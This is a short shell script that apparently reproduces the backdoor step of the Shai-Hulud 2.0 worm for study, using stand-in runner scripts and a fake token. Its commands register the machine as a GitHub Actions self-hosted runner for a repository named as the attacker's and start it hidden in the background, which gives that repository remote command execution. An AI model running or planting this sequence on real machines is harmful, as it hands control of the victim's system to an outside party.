#!/bin/sh
# Shai-Hulud 2.0's backdoor (November 2025): registers the victim's machine as a GitHub
# Actions self-hosted runner named SHA1HULUD in a repository the attacker controls, so a
# workflow there runs any command on it later. The runner's config.sh and run.sh here are
# inert stand-ins (actions-runner/) copied into ~/.dev-env; the token is fake and nothing is
# contacted. Usage: install.sh RUNNER_STANDIN_DIR
set -u
mkdir -p "$HOME/.dev-env"
cp "$1/config.sh" "$1/run.sh" "$HOME/.dev-env/"
cd "$HOME/.dev-env" || exit 1
./config.sh --url https://github.com/attacker/exfil-repo --unattended --token AXXXXFAKE7Q2 --name SHA1HULUD
nohup ./run.sh >/dev/null 2>&1 &
exit 0
